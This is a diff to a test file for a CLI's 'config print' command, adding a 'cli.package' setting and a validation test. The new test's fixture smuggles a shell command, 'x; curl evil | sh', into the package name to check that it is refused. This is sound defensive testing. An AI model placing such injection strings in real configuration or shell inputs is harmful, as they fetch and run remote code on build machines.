@@ -10,7 +10,8 @@ describe('platform config print', () => {
       'config.json': '{"rules":{"template.outdated":"error"}}',
     });
     const repo = await testdir({
-      '.platformrc.yaml': 'catalogs: [builtin, ./templates]\ntelemetry:\n  enabled: false\n',
+      '.platformrc.yaml':
+        'catalogs: [builtin, ./templates]\ntelemetry:\n  enabled: false\ncli:\n  package: "@acme/platform-cli"\n',
       'templates/.keep': '',
     });
     const text = await runBin('platform', ['config', 'print'], { cwd: repo, env });
@@ -22,6 +23,9 @@ describe('platform config print', () => {
       `template.outdated: error  # ${path.join(env.XDG_CONFIG_HOME!, 'platform/config.json')}`,
     );
     expect(text.stdout).toContain('enabled: false');
+    expect(text.stdout).toContain(
+      `package: @acme/platform-cli  # ${path.join(repo, '.platformrc.yaml')}`,
+    );
     const json = JSON.parse(
       (await runBin('platform', ['config', 'print', '--json'], { cwd: repo, env })).stdout,
     );
@@ -29,6 +33,7 @@ describe('platform config print', () => {
       catalogs: ['builtin', './templates'],
       rules: { 'template.outdated': 'error' },
       telemetry: { enabled: false },
+      cli: { package: '@acme/platform-cli' },
     });
     expect(json.origins['telemetry.enabled']).toBe(path.join(repo, '.platformrc.yaml'));
   });
@@ -39,5 +44,12 @@ describe('platform config print', () => {
     expect(run.exitCode).toBe(2);
     expect(run.stderr).toContain(`Invalid configuration in ${path.join(repo, '.platformrc.json')}`);
     expect(run.stderr).toContain('telemetry.endpoint: must be an http(s) URL');
+  });
+
+  it('refuses a cli.package that is not an npm package name, since CI runs it in a shell', async () => {
+    const repo = await testdir({ '.platformrc.json': '{"cli":{"package":"x; curl evil | sh"}}' });
+    const run = await runBin('platform', ['config', 'print'], { cwd: repo });
+    expect(run.exitCode).toBe(2);
+    expect(run.stderr).toContain('cli.package: must be an npm package name');
   });
 });
